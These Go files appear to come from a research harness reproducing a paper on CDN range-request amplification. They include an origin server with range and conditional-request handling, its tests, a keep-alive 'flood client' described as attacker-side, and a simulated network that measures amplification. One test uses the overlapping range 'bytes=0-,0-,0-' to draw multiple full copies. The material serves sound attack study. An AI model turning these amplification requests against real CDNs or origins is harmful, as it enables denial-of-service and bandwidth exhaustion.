	// RFC 7232 conditional GET: a fresh cache revalidation gets a 304
	// (CDN edges revalidate cached objects this way).
	if s.notModified(res, req) {
		return s.notModifiedResponse(res)
	}

	rangeVal, hasRange := req.Headers.Get("Range")
	if !s.cfg.RangeSupport || !hasRange {
		return s.fullResponse(res, req.Method == "HEAD")
	}
	// RFC 7233 §3.2 If-Range: when the validator no longer matches, the
	// stored part is stale and the server answers with the full
	// representation instead of a 206 (how resumed downloads stay safe
	// across resource changes).
	if cond, ok := req.Headers.Get("If-Range"); ok && !s.ifRangeMatches(res, cond) {
		return s.fullResponse(res, req.Method == "HEAD")
	}
	set, err := ranges.Parse(rangeVal)
	if err != nil {
		// RFC 7233 §3.1: a server that cannot interpret the Range header
		// ignores it and answers 200.
		return s.fullResponse(res, req.Method == "HEAD")
	}
	resolved := set.Resolve(res.Size())
	if len(resolved) == 0 {
		return s.unsatisfiableResponse(res)
	}
	if s.cfg.MaxRangesPerRequest > 0 && len(resolved) > s.cfg.MaxRangesPerRequest {
		resolved = resolved[:s.cfg.MaxRangesPerRequest]
	}
	if len(resolved) == 1 {
		return s.singleRangeResponse(res, resolved[0], req.Method == "HEAD")
	}
	return s.multiRangeResponse(res, resolved, req.Method == "HEAD")
}

// notModified evaluates If-None-Match (preferred) and
// If-Modified-Since per RFC 7232 §6 precedence.
func (s *Server) notModified(res *resource.Resource, req *httpwire.Request) bool {
	if inm, ok := req.Headers.Get("If-None-Match"); ok {
		if inm == "*" || inm == res.ETag {
			return true
		}
		for _, candidate := range strings.Split(inm, ",") {
			if strings.TrimSpace(candidate) == res.ETag {
				return true
			}
		}
		return false
	}
	if ims, ok := req.Headers.Get("If-Modified-Since"); ok {
		if t, err := time.Parse(time.RFC1123, ims); err == nil {
			return !res.LastModified.UTC().After(t.UTC())
		}
	}
	return false
}

func (s *Server) notModifiedResponse(res *resource.Resource) *httpwire.Response {
	resp := httpwire.NewResponse(304)
	s.baseHeaders(resp, res)
	return resp
}

// ifRangeMatches reports whether an If-Range validator (entity-tag or
// HTTP-date) still matches the resource.
func (s *Server) ifRangeMatches(res *resource.Resource, cond string) bool {
	if cond == res.ETag {
		return true
	}
	if t, err := time.Parse(time.RFC1123, cond); err == nil {
		return !res.LastModified.UTC().After(t.UTC())
	}
	return false
}

// baseHeaders emits the Apache-style response header prefix, matching
// an Apache/2.4.18 default configuration with mod_expires enabled.
func (s *Server) baseHeaders(resp *httpwire.Response, res *resource.Resource) {
	resp.Headers.Add("Date", s.cfg.Now().UTC().Format(time.RFC1123))
	resp.Headers.Add("Server", ServerSoftware)
	if res != nil {
		resp.Headers.Add("Last-Modified", res.LastModified.UTC().Format(time.RFC1123))
		resp.Headers.Add("ETag", res.ETag)
	}
	if s.cfg.RangeSupport {
		resp.Headers.Add("Accept-Ranges", "bytes")
	}
	resp.Headers.Add("Cache-Control", "max-age=3600")
	resp.Headers.Add("Expires", s.cfg.Now().UTC().Add(time.Hour).Format(time.RFC1123))
	resp.Headers.Add("Vary", "Accept-Encoding")
	resp.Headers.Add("Keep-Alive", "timeout=5, max=100")
	resp.Headers.Add("Connection", "Keep-Alive")
}

func (s *Server) fullResponse(res *resource.Resource, head bool) *httpwire.Response {
	resp := httpwire.NewResponse(httpwire.StatusOK)
	s.baseHeaders(resp, res)
	resp.Headers.Add("Content-Type", res.ContentType)
	if head {
		resp.Headers.Add("Content-Length", strconv.FormatInt(res.Size(), 10))
		return resp
	}
	resp.SetBody(res.Data)
	return resp
}

func (s *Server) singleRangeResponse(res *resource.Resource, w ranges.Resolved, head bool) *httpwire.Response {
	resp := httpwire.NewResponse(httpwire.StatusPartialContent)
	s.baseHeaders(resp, res)
	resp.Headers.Add("Content-Range", w.ContentRange(res.Size()))
	resp.Headers.Add("Content-Type", res.ContentType)
	if head {
		resp.Headers.Add("Content-Length", strconv.FormatInt(w.Length, 10))
		return resp
	}
	resp.SetBody(res.Slice(w))
	return resp
}

func (s *Server) multiRangeResponse(res *resource.Resource, ws []ranges.Resolved, head bool) *httpwire.Response {
	msg := &multipart.Message{
		Boundary:       multipart.DefaultBoundary,
		CompleteLength: res.Size(),
	}
	for _, w := range ws {
		msg.Parts = append(msg.Parts, multipart.Part{
			ContentType: res.ContentType,
			Window:      w,
			Data:        res.Slice(w),
		})
	}
	resp := httpwire.NewResponse(httpwire.StatusPartialContent)
	s.baseHeaders(resp, res)
	resp.Headers.Add("Content-Type", msg.ContentTypeValue())
	if head {
		resp.Headers.Add("Content-Length", strconv.FormatInt(msg.EncodedSize(), 10))
		return resp
	}
	// The message streams its parts straight from the resource store's
	// backing array — the joined multipart body is never materialized.
	resp.SetBodyStream(msg, msg.EncodedSize())
	return resp
}

func (s *Server) unsatisfiableResponse(res *resource.Resource) *httpwire.Response {
	resp := httpwire.NewResponse(httpwire.StatusRangeNotSatisfiable)
	s.baseHeaders(resp, res)
	resp.Headers.Add("Content-Range", fmt.Sprintf("bytes */%d", res.Size()))
	resp.SetBody(nil)
	return resp
}

func (s *Server) errorResponse(code int, msg string) *httpwire.Response {
	resp := httpwire.NewResponse(code)
	s.baseHeaders(resp, nil)
	resp.Headers.Add("Content-Type", "text/plain")
	resp.SetBody([]byte(msg + "\n"))
	return resp
}

// Fetch performs one client request against addr over net and returns
// the parsed response. It is the minimal client used by tests. The
// caller's request is left exactly as it was handed in: the
// Connection: close this per-request client speaks is added for the
// write and restored afterwards, so a replayed request (the KeyCDN
// Repeat=2 case) carries the same headers on every send.
func Fetch(net *netsim.Network, addr string, seg *netsim.Segment, req *httpwire.Request) (*httpwire.Response, error) {
	conn, err := net.Dial(addr, seg)
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	prev, had := req.Headers.Get("Connection")
	req.Headers.Set("Connection", "close")
	_, werr := req.WriteTo(conn)
	if had {
		req.Headers.Set("Connection", prev)
	} else {
		req.Headers.Del("Connection")
	}
	if werr != nil {
		return nil, werr
	}
	br := httpwire.GetReader(conn)
	defer httpwire.PutReader(br)
	resp, err := httpwire.ReadResponse(br, httpwire.Limits{})
	if err != nil && !errors.Is(err, netsim.ErrClosed) {
		return resp, err
	}
	return resp, nil
}
