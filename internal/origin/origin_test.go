package origin

import (
	"bufio"
	"bytes"
	"strings"
	"testing"
	"time"

	"repro/internal/httpwire"
	"repro/internal/multipart"
	"repro/internal/netsim"
	"repro/internal/resource"
)

func newTestServer(t *testing.T, rangeSupport bool) (*Server, *netsim.Network, *resource.Store) {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/1KB.jpg", 1000, "image/jpeg")
	srv := NewServer(store, Config{RangeSupport: rangeSupport})
	net := netsim.NewNetwork()
	l, err := net.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(l)
	t.Cleanup(func() { l.Close() })
	return srv, net, store
}

func get(t *testing.T, net *netsim.Network, rangeHeader string) *httpwire.Response {
	t.Helper()
	req := httpwire.NewRequest("GET", "/1KB.jpg", "example.com")
	if rangeHeader != "" {
		req.Headers.Add("Range", rangeHeader)
	}
	resp, err := Fetch(net, "origin:80", netsim.NewSegment("t"), req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func TestFullResponse(t *testing.T) {
	_, net, store := newTestServer(t, true)
	resp := get(t, net, "")
	if resp.StatusCode != 200 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	res, _ := store.Get("/1KB.jpg")
	if !bytes.Equal(resp.Body, res.Data) {
		t.Error("body mismatch")
	}
	if v, _ := resp.Headers.Get("Accept-Ranges"); v != "bytes" {
		t.Errorf("Accept-Ranges = %q", v)
	}
	if v, _ := resp.Headers.Get("Server"); v != ServerSoftware {
		t.Errorf("Server = %q", v)
	}
	if v, _ := resp.Headers.Get("Content-Length"); v != "1000" {
		t.Errorf("Content-Length = %q", v)
	}
}

func TestSingleRange206(t *testing.T) {
	// Paper Fig 2a/2c: "Range: bytes=0-0" yields a one-byte 206.
	_, net, store := newTestServer(t, true)
	resp := get(t, net, "bytes=0-0")
	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	res, _ := store.Get("/1KB.jpg")
	if len(resp.Body) != 1 || resp.Body[0] != res.Data[0] {
		t.Errorf("body = %v", resp.Body)
	}
	if v, _ := resp.Headers.Get("Content-Range"); v != "bytes 0-0/1000" {
		t.Errorf("Content-Range = %q", v)
	}
	if v, _ := resp.Headers.Get("Content-Length"); v != "1" {
		t.Errorf("Content-Length = %q", v)
	}
}

func TestSuffixRange206(t *testing.T) {
	_, net, store := newTestServer(t, true)
	resp := get(t, net, "bytes=-2")
	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	res, _ := store.Get("/1KB.jpg")
	if !bytes.Equal(resp.Body, res.Data[998:]) {
		t.Error("suffix body mismatch")
	}
	if v, _ := resp.Headers.Get("Content-Range"); v != "bytes 998-999/1000" {
		t.Errorf("Content-Range = %q", v)
	}
}

func TestMultiRangeMultipart(t *testing.T) {
	// Paper Fig 2b/2d: "Range: bytes=1-1,-2" yields a two-part response.
	_, net, _ := newTestServer(t, true)
	resp := get(t, net, "bytes=1-1,-2")
	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	ct, _ := resp.Headers.Get("Content-Type")
	boundary, ok := multipart.ParseContentTypeValue(ct)
	if !ok {
		t.Fatalf("Content-Type = %q", ct)
	}
	if resp.Headers.Has("Content-Range") {
		t.Error("multipart response must not carry a top-level Content-Range")
	}
	msg, err := multipart.Decode(resp.Body, boundary)
	if err != nil {
		t.Fatal(err)
	}
	if len(msg.Parts) != 2 || msg.CompleteLength != 1000 {
		t.Fatalf("parts=%d complete=%d", len(msg.Parts), msg.CompleteLength)
	}
	if msg.Parts[0].Window.Offset != 1 || msg.Parts[1].Window.Offset != 998 {
		t.Errorf("windows: %+v %+v", msg.Parts[0].Window, msg.Parts[1].Window)
	}
}

func TestOverlappingRangesServedWithoutCheck(t *testing.T) {
	// A plain origin (like the BCDN's upstream view of Apache) serves
	// overlapping ranges as-is; mitigation is opt-in via config.
	_, net, _ := newTestServer(t, true)
	resp := get(t, net, "bytes=0-,0-,0-")
	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if int64(len(resp.Body)) < 3*1000 {
		t.Errorf("body = %d bytes, want >= 3000 (three full copies)", len(resp.Body))
	}
}

func TestMaxRangesPerRequest(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/f", 1000, "x")
	srv := NewServer(store, Config{RangeSupport: true, MaxRangesPerRequest: 2})
	req := httpwire.NewRequest("GET", "/f", "h")
	req.Headers.Add("Range", "bytes=0-,0-,0-,0-")
	resp := srv.Handle(req)
	ct, _ := resp.Headers.Get("Content-Type")
	boundary, _ := multipart.ParseContentTypeValue(ct)
	msg, err := multipart.Decode(resp.BodyBytes(), boundary)
	if err != nil {
		t.Fatal(err)
	}
	if len(msg.Parts) != 2 {
		t.Errorf("served %d parts, want 2", len(msg.Parts))
	}
}

func TestRangeSupportDisabled(t *testing.T) {
	// OBR precondition: ranges disabled, origin answers 200 full copy
	// with no Accept-Ranges.
	_, net, _ := newTestServer(t, false)
	resp := get(t, net, "bytes=0-0")
	if resp.StatusCode != 200 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if len(resp.Body) != 1000 {
		t.Errorf("body = %d bytes", len(resp.Body))
	}
	if resp.Headers.Has("Accept-Ranges") {
		t.Error("Accept-Ranges sent despite disabled range support")
	}
}

func TestMalformedRangeIgnored(t *testing.T) {
	_, net, _ := newTestServer(t, true)
	resp := get(t, net, "bytes=oops")
	if resp.StatusCode != 200 || len(resp.Body) != 1000 {
		t.Errorf("status=%d len=%d, want 200 full body", resp.StatusCode, len(resp.Body))
	}
}

func TestUnsatisfiableRange416(t *testing.T) {
	_, net, _ := newTestServer(t, true)
	resp := get(t, net, "bytes=5000-6000")
	if resp.StatusCode != 416 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if v, _ := resp.Headers.Get("Content-Range"); v != "bytes */1000" {
		t.Errorf("Content-Range = %q", v)
	}
	if len(resp.Body) != 0 {
		t.Errorf("416 body = %d bytes", len(resp.Body))
	}
}

func TestNotFound(t *testing.T) {
	_, net, _ := newTestServer(t, true)
	req := httpwire.NewRequest("GET", "/missing", "h")
	resp, err := Fetch(net, "origin:80", netsim.NewSegment("t"), req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 404 {
		t.Errorf("status = %d", resp.StatusCode)
	}
}

func TestMethodNotAllowed(t *testing.T) {
	store := resource.NewStore()
	srv := NewServer(store, Config{RangeSupport: true})
	resp := srv.Handle(httpwire.NewRequest("POST", "/x", "h"))
	if resp.StatusCode != 405 {
		t.Errorf("status = %d", resp.StatusCode)
	}
}

func TestHeadRequest(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/f", 1000, "x")
	srv := NewServer(store, Config{RangeSupport: true})
	resp := srv.Handle(httpwire.NewRequest("HEAD", "/f", "h"))
	if resp.StatusCode != 200 || len(resp.Body) != 0 {
		t.Errorf("HEAD: status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	if v, _ := resp.Headers.Get("Content-Length"); v != "1000" {
		t.Errorf("Content-Length = %q", v)
	}
}

func TestQueryStringIgnoredForLookup(t *testing.T) {
	// Cache-busting query strings must still resolve to the resource.
	_, net, _ := newTestServer(t, true)
	req := httpwire.NewRequest("GET", "/1KB.jpg?rand=12345", "h")
	resp, err := Fetch(net, "origin:80", netsim.NewSegment("t"), req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 200 || len(resp.Body) != 1000 {
		t.Errorf("status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
}

func TestRequestLog(t *testing.T) {
	srv, net, _ := newTestServer(t, true)
	get(t, net, "bytes=0-0")
	get(t, net, "")
	log := srv.Log()
	if len(log) != 2 {
		t.Fatalf("log has %d entries", len(log))
	}
	if !log[0].HasRange || log[0].RangeHeader != "bytes=0-0" {
		t.Errorf("entry 0 = %+v", log[0])
	}
	if log[1].HasRange {
		t.Errorf("entry 1 = %+v", log[1])
	}
	srv.ResetLog()
	if len(srv.Log()) != 0 {
		t.Error("ResetLog did not clear")
	}
}

func TestKeepAliveServesMultipleRequests(t *testing.T) {
	_, net, _ := newTestServer(t, true)
	conn, err := net.Dial("origin:80", netsim.NewSegment("t"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	br := bufio.NewReader(conn)
	for i := 0; i < 3; i++ {
		req := httpwire.NewRequest("GET", "/1KB.jpg", "h")
		req.Headers.Add("Range", "bytes=0-0")
		if _, err := req.WriteTo(conn); err != nil {
			t.Fatal(err)
		}
		resp, err := httpwire.ReadResponse(br, httpwire.Limits{})
		if err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
		if resp.StatusCode != 206 {
			t.Fatalf("request %d: status %d", i, resp.StatusCode)
		}
	}
}

func TestResponseDeterminism(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/f", 100, "x")
	srv := NewServer(store, Config{RangeSupport: true})
	req := httpwire.NewRequest("GET", "/f", "h")
	a := srv.Handle(req.Clone())
	b := srv.Handle(req.Clone())
	var bufA, bufB strings.Builder
	a.WriteTo(&bufA)
	b.WriteTo(&bufB)
	if bufA.String() != bufB.String() {
		t.Error("responses are not byte-deterministic")
	}
}

func TestIfRangeMatchingETagServesPartial(t *testing.T) {
	store := resource.NewStore()
	res := store.AddSynthetic("/f", 1000, "x")
	srv := NewServer(store, Config{RangeSupport: true})
	req := httpwire.NewRequest("GET", "/f", "h")
	req.Headers.Add("Range", "bytes=500-")
	req.Headers.Add("If-Range", res.ETag)
	resp := srv.Handle(req)
	if resp.StatusCode != 206 || len(resp.Body) != 500 {
		t.Errorf("matching If-Range: status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
}

func TestIfRangeStaleValidatorServesFull(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/f", 1000, "x")
	srv := NewServer(store, Config{RangeSupport: true})

	req := httpwire.NewRequest("GET", "/f", "h")
	req.Headers.Add("Range", "bytes=500-")
	req.Headers.Add("If-Range", `"some-old-etag"`)
	resp := srv.Handle(req)
	if resp.StatusCode != 200 || len(resp.Body) != 1000 {
		t.Errorf("stale If-Range: status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
}

func TestIfRangeDateValidator(t *testing.T) {
	store := resource.NewStore()
	res := store.AddSynthetic("/f", 1000, "x")
	srv := NewServer(store, Config{RangeSupport: true})

	fresh := res.LastModified.UTC().Format(time.RFC1123)
	req := httpwire.NewRequest("GET", "/f", "h")
	req.Headers.Add("Range", "bytes=0-0")
	req.Headers.Add("If-Range", fresh)
	if resp := srv.Handle(req); resp.StatusCode != 206 {
		t.Errorf("current date validator: status=%d", resp.StatusCode)
	}

	stale := res.LastModified.UTC().Add(-time.Hour).Format(time.RFC1123)
	req2 := httpwire.NewRequest("GET", "/f", "h")
	req2.Headers.Add("Range", "bytes=0-0")
	req2.Headers.Add("If-Range", stale)
	if resp := srv.Handle(req2); resp.StatusCode != 200 {
		t.Errorf("stale date validator: status=%d", resp.StatusCode)
	}
}

func TestConditionalGETNotModified(t *testing.T) {
	store := resource.NewStore()
	res := store.AddSynthetic("/f", 1000, "x")
	srv := NewServer(store, Config{RangeSupport: true})

	req := httpwire.NewRequest("GET", "/f", "h")
	req.Headers.Add("If-None-Match", res.ETag)
	resp := srv.Handle(req)
	if resp.StatusCode != 304 || len(resp.Body) != 0 {
		t.Errorf("matching If-None-Match: status=%d len=%d", resp.StatusCode, len(resp.Body))
	}

	req2 := httpwire.NewRequest("GET", "/f", "h")
	req2.Headers.Add("If-None-Match", `"other", `+res.ETag)
	if resp := srv.Handle(req2); resp.StatusCode != 304 {
		t.Errorf("etag list: status=%d", resp.StatusCode)
	}

	req3 := httpwire.NewRequest("GET", "/f", "h")
	req3.Headers.Add("If-None-Match", `"stale"`)
	if resp := srv.Handle(req3); resp.StatusCode != 200 {
		t.Errorf("non-matching etag: status=%d", resp.StatusCode)
	}
}

func TestConditionalGETModifiedSince(t *testing.T) {
	store := resource.NewStore()
	res := store.AddSynthetic("/f", 1000, "x")
	srv := NewServer(store, Config{RangeSupport: true})

	fresh := res.LastModified.UTC().Format(time.RFC1123)
	req := httpwire.NewRequest("GET", "/f", "h")
	req.Headers.Add("If-Modified-Since", fresh)
	if resp := srv.Handle(req); resp.StatusCode != 304 {
		t.Errorf("fresh IMS: status=%d", resp.StatusCode)
	}

	old := res.LastModified.UTC().Add(-time.Hour).Format(time.RFC1123)
	req2 := httpwire.NewRequest("GET", "/f", "h")
	req2.Headers.Add("If-Modified-Since", old)
	if resp := srv.Handle(req2); resp.StatusCode != 200 {
		t.Errorf("old IMS: status=%d", resp.StatusCode)
	}
}

func TestConditionalBeatsRange(t *testing.T) {
	// RFC 7233 §3.1: a 304 takes precedence over Range evaluation.
	store := resource.NewStore()
	res := store.AddSynthetic("/f", 1000, "x")
	srv := NewServer(store, Config{RangeSupport: true})
	req := httpwire.NewRequest("GET", "/f", "h")
	req.Headers.Add("If-None-Match", res.ETag)
	req.Headers.Add("Range", "bytes=0-0")
	if resp := srv.Handle(req); resp.StatusCode != 304 {
		t.Errorf("conditional+range: status=%d", resp.StatusCode)
	}
}
