package origin

import (
	"bufio"
	"fmt"
	"sync"

	"repro/internal/httpwire"
	"repro/internal/netsim"
)

// Dialer abstracts how a client session reaches its server.
// netsim.Network (in-memory) and transport.Dialer (real TCP) both
// satisfy it.
type Dialer interface {
	Dial(addr string, seg *netsim.Segment) (netsim.Conn, error)
}

// Client is a keep-alive HTTP/1.1 client session: one persistent
// connection carrying many requests, redialed transparently when the
// peer drops it between exchanges. It is the attacker-side counterpart
// of the edge's upstream pool — a flood client multiplexing its
// requests over N Clients pays N dials total instead of one per
// request.
//
// A Client serializes its own exchanges with a mutex, so it is safe to
// share, but a flood wanting parallelism should run one Client per
// worker (the -conns model in cmd/attack).
type Client struct {
	dialer Dialer
	addr   string
	seg    *netsim.Segment

	mu     sync.Mutex
	conn   netsim.Conn
	br     *bufio.Reader
	closed bool

	dials    int64
	requests int64
}

// ClientStats is a snapshot of one session's connection economy.
type ClientStats struct {
	Dials    int64 // connections opened over the session's lifetime
	Requests int64 // exchanges completed
}

// NewClient returns an unconnected session; the first Do dials.
func NewClient(d Dialer, addr string, seg *netsim.Segment) *Client {
	return &Client{dialer: d, addr: addr, seg: seg}
}

// Do performs one request/response exchange over the persistent
// connection. The request is written as-is — in particular without
// Connection: close, so the server keeps the connection open. A reused
// connection that fails is presumed stale (the peer's keep-alive
// timeout fired between requests): Do redials once and retries. The
// caller's request headers are never mutated.
func (c *Client) Do(req *httpwire.Request) (*httpwire.Response, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.closed {
		return nil, fmt.Errorf("origin: client session closed")
	}
	reused := c.conn != nil
	if !reused {
		if err := c.dialLocked(); err != nil {
			return nil, err
		}
	}
	resp, err := c.exchangeLocked(req)
	if err != nil && reused {
		c.dropLocked()
		if err := c.dialLocked(); err != nil {
			return nil, err
		}
		resp, err = c.exchangeLocked(req)
	}
	if err != nil {
		c.dropLocked()
		return nil, err
	}
	c.requests++
	if !resp.KeepsConnReusable() {
		// The server announced close or used close-delimited framing;
		// the next Do starts from a fresh dial.
		c.dropLocked()
	}
	return resp, nil
}

// Stats returns the session's connection economy counters.
func (c *Client) Stats() ClientStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return ClientStats{Dials: c.dials, Requests: c.requests}
}

// Close drops the persistent connection and rejects further Dos.
func (c *Client) Close() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.dropLocked()
	c.closed = true
	return nil
}

func (c *Client) dialLocked() error {
	conn, err := c.dialer.Dial(c.addr, c.seg)
	if err != nil {
		return fmt.Errorf("dial %s: %w", c.addr, err)
	}
	c.conn = conn
	c.br = httpwire.GetReader(conn)
	c.dials++
	return nil
}

func (c *Client) dropLocked() {
	if c.conn == nil {
		return
	}
	httpwire.PutReader(c.br)
	c.br = nil
	c.conn.Close()
	c.conn = nil
}

// exchangeLocked writes req and parses one response on the session's
// connection. The reader is bound to the connection for its whole life
// so parse read-ahead survives into the next exchange.
func (c *Client) exchangeLocked(req *httpwire.Request) (*httpwire.Response, error) {
	if _, err := req.WriteTo(c.conn); err != nil {
		return nil, fmt.Errorf("write request: %w", err)
	}
	resp, err := httpwire.ReadResponse(c.br, httpwire.Limits{})
	if err != nil {
		return nil, fmt.Errorf("read response: %w", err)
	}
	return resp, nil
}
