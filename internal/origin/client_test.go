package origin

import (
	"testing"

	"repro/internal/httpwire"
	"repro/internal/netsim"
	"repro/internal/resource"
)

func newClientRig(t *testing.T) (*netsim.Network, *Server, *netsim.Segment) {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/doc.bin", 4096, "application/octet-stream")
	srv := NewServer(store, Config{RangeSupport: true})
	net := netsim.NewNetwork()
	l, err := net.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(l)
	t.Cleanup(func() { l.Close() })
	return net, srv, netsim.NewSegment("client-origin")
}

func TestClientReusesConnection(t *testing.T) {
	net, srv, seg := newClientRig(t)
	c := NewClient(net, "origin:80", seg)
	defer c.Close()
	for i := 0; i < 5; i++ {
		req := httpwire.NewRequest("GET", "/doc.bin", "site.example")
		resp, err := c.Do(req)
		if err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
		if resp.StatusCode != 200 || len(resp.Body) != 4096 {
			t.Fatalf("request %d: HTTP %d, %dB", i, resp.StatusCode, len(resp.Body))
		}
	}
	st := c.Stats()
	if st.Dials != 1 || st.Requests != 5 {
		t.Errorf("stats = %+v, want 1 dial / 5 requests", st)
	}
	if conns := seg.Conns(); conns != 1 {
		t.Errorf("segment conns = %d, want 1", conns)
	}
	if n := len(srv.Log()); n != 5 {
		t.Errorf("server saw %d requests, want 5", n)
	}
}

func TestClientDoesNotMutateRequest(t *testing.T) {
	net, _, seg := newClientRig(t)
	c := NewClient(net, "origin:80", seg)
	defer c.Close()
	req := httpwire.NewRequest("GET", "/doc.bin", "site.example")
	if _, err := c.Do(req); err != nil {
		t.Fatal(err)
	}
	if v, ok := req.Headers.Get("Connection"); ok {
		t.Errorf("Do added Connection: %q to the caller's request", v)
	}
}

func TestClientRedialsStaleConnection(t *testing.T) {
	net, srv, seg := newClientRig(t)
	c := NewClient(net, "origin:80", seg)
	defer c.Close()
	if _, err := c.Do(httpwire.NewRequest("GET", "/doc.bin", "site.example")); err != nil {
		t.Fatal(err)
	}
	// Kill the session's connection under it (the server's keep-alive
	// timeout firing between requests).
	c.mu.Lock()
	c.conn.Close()
	c.mu.Unlock()

	resp, err := c.Do(httpwire.NewRequest("GET", "/doc.bin", "site.example"))
	if err != nil {
		t.Fatalf("Do after stale conn: %v", err)
	}
	if resp.StatusCode != 200 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	st := c.Stats()
	if st.Dials != 2 || st.Requests != 2 {
		t.Errorf("stats = %+v, want 2 dials / 2 requests (one transparent redial)", st)
	}
	if n := len(srv.Log()); n != 2 {
		t.Errorf("server saw %d requests, want 2", n)
	}
}

func TestClientCloseRejectsFurtherUse(t *testing.T) {
	net, _, seg := newClientRig(t)
	c := NewClient(net, "origin:80", seg)
	if _, err := c.Do(httpwire.NewRequest("GET", "/doc.bin", "site.example")); err != nil {
		t.Fatal(err)
	}
	c.Close()
	if live := seg.Live(); live != 0 {
		t.Errorf("live conns after Close = %d, want 0", live)
	}
	if _, err := c.Do(httpwire.NewRequest("GET", "/doc.bin", "site.example")); err == nil {
		t.Error("Do after Close succeeded")
	}
}

func TestClientHonorsServerClose(t *testing.T) {
	// A response with Connection: close (or close-delimited framing)
	// spends the connection: the next Do must redial, not write into the
	// dead socket.
	net, _, seg := newClientRig(t)
	c := NewClient(net, "origin:80", seg)
	defer c.Close()
	req := httpwire.NewRequest("GET", "/doc.bin", "site.example")
	req.Headers.Set("Connection", "close")
	if _, err := c.Do(req); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Do(httpwire.NewRequest("GET", "/doc.bin", "site.example")); err != nil {
		t.Fatalf("Do after server close: %v", err)
	}
	if st := c.Stats(); st.Dials != 2 {
		t.Errorf("dials = %d, want 2 (server-closed conn not reused)", st.Dials)
	}
}
