package netsim

// Wire-framing estimate constants, used to approximate what a packet
// capture on a segment would record (the paper measures some
// experiments at capture level): TCP/IP/Ethernet framing per MSS-sized
// segment plus connection setup/teardown packets. They are exported as
// the single source of truth for every engine that prices a byte on
// the wire — Segment.WireTraffic (the pipe substrate's capture-level
// estimate) and the vtime link models both consume FrameEstimate, so
// the two engines cannot drift apart on framing.
const (
	// MSSBytes is the payload per full-size TCP segment.
	MSSBytes = 1448
	// PerPacketOverhead is the Ethernet+IP+TCP header cost per packet
	// (with timestamps).
	PerPacketOverhead = 66
	// PerConnOverheadDir is the SYN/ACK/FIN exchange cost per
	// connection, per direction.
	PerConnOverheadDir = 200
)

// FrameEstimate converts application bytes carried over conns
// connections into estimated capture-level wire bytes for one
// direction of a segment.
func FrameEstimate(appBytes, conns int64) int64 {
	packets := (appBytes + MSSBytes - 1) / MSSBytes
	return appBytes + packets*PerPacketOverhead + conns*PerConnOverheadDir
}

// Snapshot is a full per-segment counter snapshot: traffic in both
// directions plus the connection lifecycle counts. The vtime engine's
// calibration phase diffs Snapshots around real requests to learn the
// exact footprint a request class leaves, then replays those diffs for
// the simulated remainder of the flood — which is what makes the two
// engines' totals bit-identical on matched configs.
type Snapshot struct {
	Up, Down int64 // application bytes per direction
	Conns    int64 // connections opened
	Closed   int64 // connections cleanly closed
	Aborted  int64 // connections torn down mid-transfer
}

// Sub returns the counter movement since prev.
func (s Snapshot) Sub(prev Snapshot) Snapshot {
	return Snapshot{
		Up:      s.Up - prev.Up,
		Down:    s.Down - prev.Down,
		Conns:   s.Conns - prev.Conns,
		Closed:  s.Closed - prev.Closed,
		Aborted: s.Aborted - prev.Aborted,
	}
}

// Snapshot captures the segment's current counters.
func (s *Segment) Snapshot() Snapshot {
	if s == nil {
		return Snapshot{}
	}
	return Snapshot{
		Up:      s.up.Load(),
		Down:    s.down.Load(),
		Conns:   s.conns.Load(),
		Closed:  s.closed.Load(),
		Aborted: s.aborted.Load(),
	}
}

// CloseCounts returns how many of the segment's connections have been
// cleanly closed versus aborted (torn down with unread inbound bytes).
// Differential engine tests compare these classifications directly.
func (s *Segment) CloseCounts() (closed, aborted int64) {
	if s == nil {
		return 0, 0
	}
	return s.closed.Load(), s.aborted.Load()
}
