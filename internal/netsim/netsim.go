// Package netsim provides the instrumented in-memory transport the
// experiments run over. Every connection belongs to a named Segment
// (client-cdn, cdn-origin, fcdn-bcdn, bcdn-origin); the segment counts
// the bytes that actually transit each direction, which is the quantity
// the paper's amplification factors are ratios of.
//
// Connections are bounded pipes: a writer blocks once the in-flight
// window is full, so closing the read side mid-transfer stops the peer
// after roughly one window of extra bytes — the same "a little larger
// than 8MB" effect the paper observes when Azure aborts its first
// back-to-origin connection.
package netsim

import (
	"errors"
	"fmt"
	"io"
	"sync"
	"sync/atomic"

	"repro/internal/metrics"
)

// DefaultWindow is the default per-direction in-flight byte window,
// standing in for the TCP receive window plus path buffering.
const DefaultWindow = 256 << 10

// Errors returned by pipe endpoints and the network.
var (
	ErrClosed        = errors.New("netsim: connection closed")
	ErrAddrInUse     = errors.New("netsim: address already in use")
	ErrNoListener    = errors.New("netsim: no listener at address")
	ErrListenerClose = errors.New("netsim: listener closed")
)

// Traffic is a snapshot of bytes transferred on a segment.
type Traffic struct {
	Up   int64 // client -> server (requests)
	Down int64 // server -> client (responses)
}

